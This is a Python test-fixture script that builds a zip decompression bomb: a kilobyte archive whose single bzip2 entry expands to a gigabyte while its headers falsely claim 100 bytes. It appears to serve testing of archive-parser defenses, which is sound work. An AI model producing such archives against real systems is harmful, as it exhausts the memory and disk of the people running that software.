"""A zip of a kilobyte whose one file, packed with bzip2, is a gigabyte and says that it has a hundred bytes.

Attacks: D3, C10
"""

# ruff: noqa
if __name__ == "__main__":  # the runner calls build(); by itself this file does nothing
    raise SystemExit(77)

import bz2
import struct


def build(folder, name, right, host):
    packer = bz2.BZ2Compressor(9)
    data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()
    sizes = (0, len(data), 100, 6)  # checksum, packed, unpacked as declared, length of the name
    start = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 46, 0, 12, 0, 33, *sizes, 0) + b"toy.py"
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 46, 46, 0, 12, 0, 33, *sizes, 0, 0, 0, 0, 0, 0) + b"toy.py"
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1, 1, len(entry), len(start) + len(data), 0)
    (folder / f"{name}.zip").write_bytes(start + data + entry + end)
